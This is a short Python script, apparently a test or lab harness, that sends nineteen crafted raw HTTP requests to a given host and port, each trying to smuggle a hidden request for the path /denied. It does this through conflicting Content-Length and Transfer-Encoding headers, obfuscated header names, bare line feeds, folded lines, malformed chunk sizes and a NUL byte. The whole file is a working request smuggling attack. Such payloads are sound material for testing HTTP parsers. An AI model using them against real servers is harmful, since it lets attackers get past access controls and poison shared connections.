# SPDX-License-Identifier: Apache-2.0
"""Requests in which another one for /denied hides from some readers: smuggle.py HOST PORT. How many ways were tried."""
import socket
import sys

host, port = sys.argv[1:]
HOST = f"Host: {host}\r\n"
HIDDEN = f"GET /denied HTTP/1.1\r\n{HOST}\r\n"
GET, POST = f"GET /hello HTTP/1.1\r\n{HOST}", f"POST /echo HTTP/1.1\r\n{HOST}"
LENGTH = f"Content-Length: {len(HIDDEN)}\r\n"
ONE_CHUNK = f"{len(HIDDEN):x}\r\n{HIDDEN}\r\n0\r\n\r\n"

# What this world's server takes to be two requests, or one for /denied.
TWO = {
    "a second request at once": GET + "\r\n" + HIDDEN,
    "length and chunks": POST + f"Content-Length: {len(HIDDEN) + 5}\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + HIDDEN,
    "chunks and length": POST + f"Transfer-Encoding: chunked\r\nContent-Length: {len(HIDDEN) + 5}\r\n\r\n0\r\n\r\n" + HIDDEN,
    "two lengths": POST + LENGTH + "Content-Length: 0\r\n\r\n" + HIDDEN,
    "a coding that is none": POST + "Transfer-Encoding: chunked, identity\r\n\r\n" + HIDDEN,
    "chunks by another name": POST + "Transfer-Encoding : chunked\r\n\r\n" + HIDDEN,
    "a coding behind a vertical tab": POST + "Transfer-Encoding: \x0bchunked\r\n\r\n0\r\n\r\n" + HIDDEN,
    "a length behind a blank": POST + f"Content-Length : {len(HIDDEN)}\r\nContent-Length: 0\r\n\r\n" + HIDDEN,
    "a body of a GET": GET + "Content-Length: 0\r\n\r\n" + HIDDEN,
    "line feeds alone": GET.replace("\r\n", "\n") + "\n" + HIDDEN,
    "a field in two lines": POST + "X-Field: one\r\n Content-Length: 9\r\n\r\n" + HIDDEN,
    "a length with a sign": POST + "Content-Length: +0\r\n\r\n" + HIDDEN,
    "a length in underscores": POST + "Content-Length: 0_0\r\n\r\n" + HIDDEN,
    "an extension of a chunk": POST + "Transfer-Encoding: chunked\r\n\r\n0;a=\nb\r\n\r\n" + HIDDEN,
    "a signed chunk": POST + "Transfer-Encoding: chunked\r\n\r\n-0\r\n\r\n" + HIDDEN,
    "a chunk in C": POST + "Transfer-Encoding: chunked\r\n\r\n0x0\r\n\r\n" + HIDDEN,
    "another target": f"GET http://{host}/denied HTTP/1.1\r\n{HOST}\r\n",
    "a NUL in a field": GET + "X-Field: \0\r\n\r\n" + HIDDEN,
    "blanks in the line": f"GET /denied HTTP/1.0\r\n{HOST}\r\n",
}


def send(data):
    with socket.create_connection((host, int(port)), 5) as client:
        client.settimeout(0.25)
        try:
            client.sendall(data.encode("latin-1"))
            while client.recv(65536):
                pass
        except OSError:
            pass


for text in TWO.values():
    send(text)
print(f"{len(TWO)} ways were tried")
